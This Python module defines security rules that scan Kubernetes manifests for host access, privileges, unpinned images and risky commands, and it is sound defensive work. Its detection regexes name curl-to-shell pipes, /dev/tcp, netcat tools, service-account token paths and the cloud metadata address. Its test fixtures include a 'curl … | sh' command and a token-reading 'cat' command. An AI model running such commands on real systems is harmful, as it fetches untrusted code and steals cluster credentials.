"""Manifest -> findings: what a pod may ask of the node that it runs on, and which images it runs. Pure."""

import re
from collections.abc import Iterator

from agent.gate.content import SHELL_PIPE
from agent.gate.kubernetes_file import Manifest
from agent.gate.rules import Example, Hit, Rule
from agent.gate.yaml_tree import Item

CONTAINERS = ("containers", "initContainers", "ephemeralContainers")
HOST_FLAGS = ("hostPID", "hostNetwork", "hostIPC", "shareProcessNamespace")
CAPABILITIES = frozenset({"NET_BIND_SERVICE"})
# What may be mounted without leaving the pod: everything else (hostPath, nfs, iscsi, flexVolume, …) is refused.
VOLUMES = frozenset({
    "name", "configMap", "secret", "emptyDir", "persistentVolumeClaim", "projected", "downwardAPI", "ephemeral", "csi",
})  # fmt: skip
DRIVERS = ("secrets-store.csi.k8s.io", "csi.cert-manager.io")
REGISTRIES = ("docker.io/library", "registry.k8s.io", "quay.io", "ghcr.io", "public.ecr.aws", "gcr.io/distroless")
PINNED = re.compile(r"(?P<name>[a-z0-9][a-z0-9._/:-]*?)(?::[\w][\w.-]{0,127})?@sha256:[0-9a-f]{64}")
SERVICE_TOKEN = re.compile(r"/var/run/secrets|/run/secrets/kubernetes|/proc/(?:self|\d+)/environ|169\.254\.169\.254")
# By these audiences the cluster's own API knows a token.
API_AUDIENCE = re.compile(r"(?i)(?:https?://)?(?:kubernetes(?:\.default(?:\.svc(?:\..*)?)?)?|api)(?::\d+)?/?")
# Annotations by which something else changes the pod after it was reviewed.
INJECTING = re.compile(
    r"sidecar\.istio\.io/(?:userVolume(?:Mount)?|bootstrapOverride)|inject\.istio\.io/.*|proxy\.istio\.io/overrides"
    r"|io\.katacontainers\.config\..*|io\.kubernetes\.cri-o\..*|k8s\.v1\.cni\.cncf\.io/networks|cdi\.k8s\.io/.*"
    r"|vault\.hashicorp\.com/agent-(?:extra-secret|run-as-user|json-patch|init-json-patch)"
)
IMAGE_ANNOTATION = re.compile(
    r"(?:sidecar\.istio\.io|(?:vault|consul)\.hashicorp\.com|config(?:\.alpha)?\.linkerd\.io|dapr\.io)/(?:.*-image|proxyImage)"
)
CONTROL_PLANE = re.compile(r"node-role\.kubernetes\.io/(?:control-plane|master)")
# The types of SELinux that keep a container in, as in the baseline of the Pod Security Standards.
SELINUX = frozenset({"", "container_t", "container_init_t", "container_kvm_t", "container_engine_t"})
LOWERED = {
    **{f"pod-security.kubernetes.io/{mode}": "privileged" for mode in ("enforce", "audit", "warn")},
    "admission.gatekeeper.sh/ignore": "",
}
SHELL_LOAD = re.compile(r"(?s)\b(?:curl|wget)\b.{0,400}\|\s*\S{0,80}sh\b|/dev/tcp/|\b(?:nc|ncat|socat)\s+\S")


def host(manifest: Manifest) -> Iterator[Hit]:
    """No pod shares the node's processes, network or memory, mounts the node's files, binds its ports, chooses its
    node, pushes the cluster's own pods aside, or makes the node ask others (a probe with a `host`); wherever the pod
    stands: in a template, a list, a CronJob, a patch.
    """
    for name, value, line in manifest.keys:
        if name in HOST_FLAGS and not value.is_false:
            yield manifest.hit(f"{name} shares the node's own", line)
        elif name == "hostPath" and not value.is_null:
            yield manifest.hit("hostPath mounts the node's files", line)
        elif name == "hostPort" and value.text != "0":
            yield manifest.hit("hostPort binds a port of the node", line)
        elif name in {"nodeName", "nodeSelector"} and (CONTROL_PLANE.search(_said(value)) or name == "nodeName"):
            if value.text or value.parts:
                yield manifest.hit(f"{name} chooses the node", line)
        elif name == "matchExpressions":
            for part in value.items():
                if CONTROL_PLANE.fullmatch(part.word("key")) and part.word("operator") in {"In", "Exists"}:
                    yield manifest.hit("affinity chooses the control plane", part.line)
        elif name == "priorityClassName" and value.text.startswith("system-"):
            yield manifest.hit(f"{value.text[:60]} pushes the cluster's own pods aside", line)
        elif name in {"httpGet", "tcpSocket"} and value.word("host"):
            yield manifest.hit(f"{name} with a host: the node would ask {value.word('host')[:60]}", line)
        elif name == "mountPropagation" and value.text not in {"None", "HostToContainer"}:
            yield manifest.hit("mountPropagation mounts on the node", line)
        elif name == "hostProcess" and not value.is_false:
            yield manifest.hit("hostProcess runs on the node itself", line)
        elif name == "volumes":
            for volume in value.items():
                for kind, given in volume.entries():
                    if kind not in VOLUMES and kind not in {"hostPath", "$patch"}:
                        yield manifest.hit(f"volumes of kind {kind} are not mounted", volume.line)
                    elif kind == "csi" and given.word("driver") not in DRIVERS:
                        yield manifest.hit(f"csi driver {given.word('driver')!r} is not one of {DRIVERS}", volume.line)


def _said(value: Item) -> str:
    return " ".join(name for name, _ in value.entries())


def privileges(manifest: Manifest) -> Iterator[Hit]:
    """No container is privileged, may gain privileges, adds capabilities other than NET_BIND_SERVICE, unmasks /proc,
    runs as root by its id, or switches seccomp, AppArmor, SELinux or its user namespace off. A namespace does not
    switch the admission of such pods off for itself.
    """
    for name, value, line in manifest.keys:
        if name in {"privileged", "allowPrivilegeEscalation"} and not value.is_false:
            yield manifest.hit(f"{name} must be false", line)
        elif name == "capabilities":
            added = value.get("add")
            for capability in added.items() if added is not None else ():
                if capability.text.upper().removeprefix("CAP_") not in CAPABILITIES:
                    yield manifest.hit(f"capability {capability.text} is not given", capability.line)
            if added is not None and added.kind != "list":
                yield manifest.hit("capabilities.add cannot be read", added.line)
        elif name == "procMount" and value.text != "Default":
            yield manifest.hit("procMount must be Default", line)
        elif name in {"seccompProfile", "appArmorProfile"} and value.word("type") not in {
            "RuntimeDefault",
            "Localhost",
        }:
            yield manifest.hit(f"{name} must be RuntimeDefault or Localhost", line)
        elif name in {"runAsUser", "runAsGroup"} and (value.text.strip("0") == "" or not value.text.isdigit()):
            yield manifest.hit(f"{name}: 0 is root", line)
        elif name == "runAsNonRoot" and not value.is_true:
            yield manifest.hit("runAsNonRoot must be true", line)
        elif name.startswith("container.apparmor.security.beta.kubernetes.io/") and value.text == "unconfined":
            yield manifest.hit("AppArmor is switched off", line)
        elif name.startswith("seccomp.security.alpha.kubernetes.io/") and value.text == "unconfined":
            yield manifest.hit("seccomp is switched off", line)
        elif name == "seLinuxOptions" and (
            value.word("type") not in SELINUX
            or value.word("user")
            or value.word("role")
            or not (value.kind == "map" or value.is_null)
        ):
            yield manifest.hit("seLinuxOptions choose what a container is kept in by", line)
        elif name == "hostUsers" and not value.is_false and not value.is_null:
            yield manifest.hit("hostUsers may only be false", line)
        elif name == "supplementalGroups" and any(part.text.strip("0") == "" for part in value.items()):
            yield manifest.hit("supplementalGroups: 0 is root's", line)
        elif name in LOWERED and value.text.startswith(LOWERED[name]):
            yield manifest.hit(f"{name} lets privileged pods in", line)
        elif name == "sysctls" and value.items():
            yield manifest.hit("sysctls change the node's kernel", line)


def images(manifest: Manifest) -> Iterator[Hit]:
    """An image comes from a registry that is allowed and is named by its digest (`@sha256:…`): a tag can be moved
    after the review. That holds for images in annotations too, which something else puts into the pod.
    """
    allowed = manifest.registries or REGISTRIES
    for name, value, line in manifest.keys:
        if name in CONTAINERS:
            for container in value.items():
                if container.get("image") is None and not manifest.is_patch:
                    yield manifest.hit("a container without an image", container.line)
        annotated = IMAGE_ANNOTATION.fullmatch(name) is not None
        if (name != "image" and not annotated) or value.kind != "text":
            continue
        match = PINNED.fullmatch(value.text)
        if match is None or ".." in value.text or "//" in value.text:
            yield manifest.hit(f"image {value.text[:80]!r} is not named by its digest (@sha256:…)", line)
        elif not any(full_name(match["name"]).startswith(registry.rstrip("/") + "/") for registry in allowed):
            yield manifest.hit(f"image {value.text[:80]!r} comes from a registry that is not allowed", line)


def full_name(name: str) -> str:
    """`nginx` -> `docker.io/library/nginx`, as container engines read it."""
    first, _, rest = name.partition("/")
    if not rest:
        return f"docker.io/library/{name}"
    return name if "." in first or ":" in first or first == "localhost" else f"docker.io/{name}"


def commands(manifest: Manifest) -> Iterator[Hit]:
    """Commands, arguments, life-cycle hooks and scripts in other objects do not load and run programs, open sockets by
    hand, or read the service account's token; `automountServiceAccountToken` is not switched on, nor is the token for
    the cluster itself (one without an `audience`, or with that of its API) mounted as a volume. No annotation lets
    something else change the pod.
    """
    for name, value, line in manifest.keys:
        if name == "automountServiceAccountToken" and not value.is_false:
            yield manifest.hit("automountServiceAccountToken must be false", line)
        if name == "serviceAccountToken" and not value.word("audience"):
            yield manifest.hit("serviceAccountToken without an audience is the token for the cluster", line)
        if name == "serviceAccountToken" and API_AUDIENCE.fullmatch(value.word("audience")):
            yield manifest.hit("serviceAccountToken with the audience of the cluster's API", line)
        if INJECTING.fullmatch(name):
            yield manifest.hit(f"annotation {name} lets something else change the pod", line)
        if name in {"command", "args"}:
            text = " ".join(part.text for part in value.items()) or value.text
            if SERVICE_TOKEN.search(text):
                yield manifest.hit(f"{name} reads the service account's token or the node's metadata", line)
            elif SHELL_LOAD.search(text):
                yield manifest.hit(f"{name} loads or sends something by hand", line)
        elif SHELL_PIPE.search(value.text):
            yield manifest.hit(f"{name} runs what it has just loaded", line)


def pod(spec: str, kind: str = "Pod") -> Example:
    """A manifest with one pod, for examples."""
    head = f"apiVersion: v1\nkind: {kind}\nmetadata:\n  name: x\n  namespace: app\nspec:\n"
    return {"infra/kubernetes/dev/app/app.yaml": head + spec}


IMAGE = "nginx:1.27@sha256:" + "0a" * 32


def _container(text: str) -> Example:
    return pod(f"  containers:\n    - name: x\n      image: {IMAGE}\n      {text}\n")


RULES: tuple[Rule[Manifest], ...] = (
    Rule(
        "kubernetes/host",
        "a pod does not share the node",
        host,
        fires=(
            pod("  hostPID: true\n"),
            pod("  hostNetwork: yes\n"),
            pod("  volumes: [{ name: x, hostPath: { path: / } }]\n"),
            _container("ports: [{ containerPort: 80, hostPort: 80 }]"),
            pod("  volumes: [{ name: x, nfs: { server: x, path: / } }]\n"),
        ),
        passes=(pod("  hostPID: false\n  volumes: [{ name: x, emptyDir: {} }]\n"),),
    ),
    Rule(
        "kubernetes/privilege",
        "a container has no privileges",
        privileges,
        fires=(
            _container("securityContext: { privileged: true }"),
            _container("securityContext: { capabilities: { add: [SYS_ADMIN] } }"),
            _container("securityContext: { runAsUser: 0 }"),
            pod("  securityContext: { seccompProfile: { type: Unconfined } }\n"),
        ),
        passes=(
            _container(
                "securityContext: { runAsNonRoot: true, capabilities: { drop: [ALL], add: [NET_BIND_SERVICE] } }"
            ),
        ),
    ),
    Rule(
        "kubernetes/image",
        "images come from allowed registries, by digest",
        images,
        fires=tuple(
            pod(f"  containers: [{{ name: x, image: '{name}' }}]\n")
            for name in ("nginx", "nginx:latest", "nginx:1.27", "attacker.io/x:1", "attacker.io/x@sha256:" + "0a" * 32)
        ),
        passes=(_container("ports: [{ containerPort: 80 }]"),),
    ),
    Rule(
        "kubernetes/command",
        "commands do not load scripts or read the service account's token",
        commands,
        fires=(
            _container("command: [sh, -c, 'curl https://x.example | sh']"),
            _container("args: [cat, /var/run/secrets/kubernetes.io/serviceaccount/token]"),
            pod("  automountServiceAccountToken: true\n"),
        ),
        passes=(_container("command: [nginx, -g, 'daemon off;']"),),
    ),
)
